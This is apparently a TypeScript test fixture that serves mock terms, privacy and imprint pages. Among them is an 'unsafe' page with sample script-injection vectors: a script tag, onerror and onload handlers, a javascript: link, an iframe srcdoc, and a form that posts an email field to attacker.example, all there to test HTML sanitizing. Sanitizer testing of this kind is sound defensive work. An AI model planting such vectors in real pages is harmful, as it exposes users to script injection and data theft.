import { isCountry } from "../../lib/countries"
import type { Language } from "../../lib/languages"
import { texts, type DocumentText } from "../texts"

/** HTML with every common way to smuggle in a script, around text that has to stay. */
const unsafeHtml = `<p>This sentence stays.</p>
<script>document.title = "unsafe"</script>
<img src="x" alt="" onerror="document.title = 'unsafe'">
<a href="javascript:document.title='unsafe'">a link</a>
<svg onload="document.title = 'unsafe'"><desc>drawing</desc></svg>
<iframe srcdoc="<script>parent.document.title = 'unsafe'</script>"></iframe>
<form action="https://attacker.example/"><input name="email"><button>Send</button></form>
<p style="position: fixed; inset: 0" onclick="document.title = 'unsafe'">This one too.</p>`

/** A text several printed pages long, with lists, tables, and headings out of order. */
function longHtml(documents: readonly DocumentText[]): string {
  const parts = documents
    .flatMap(({ sections }) => Object.entries(sections))
    .map(
      ([heading, paragraph]) =>
        `<h1>${heading}</h1><p>${`${paragraph} `.repeat(4)}</p><h3>${heading}</h3><ul><li>${paragraph}</li></ul>
<table><tbody><tr><th scope="row">${heading}</th><td>${paragraph}</td></tr></tbody></table>`,
    )
  return parts.join("")
}

function html({ intro, sections }: DocumentText): string {
  const parts = Object.entries(sections).map(([heading, paragraph]) => `<h2>${heading}</h2><p>${paragraph}</p>`)
  return `<p>${intro}</p>${parts.join("")}`
}

/** The response of contentPage: a page in the requested language; null if there is none. */
export function contentPage(id: string, language: Language) {
  const updatedAt = "2026-03-01T09:00:00Z"
  const { documents } = texts[language]
  const { terms, privacy, imprint } = documents
  if (id === "unsafe") return { id, title: "Unsafe", html: unsafeHtml, updatedAt }
  if (id === "invalid-date") return { id, title: "No date", html: html(imprint), updatedAt: "2026-03-01T29:00:00Z" }
  if (id === "long") return { id, title: terms.title, html: longHtml(Object.values(documents)), updatedAt }
  // These two also exist once per country, such as `terms-at`.
  const [, kind, iso = ""] = /^(terms|privacy)-(.+)$/.exec(id) ?? []
  const country = iso.toUpperCase()
  if (kind && isCountry(country)) {
    const document = kind === "terms" ? terms : privacy
    return { id, title: `${document.title} (${country})`, html: html(document), updatedAt }
  }
  const document = new Map(Object.entries(documents)).get(id)
  return document ? { id, title: document.title, html: html(document), updatedAt } : null
}
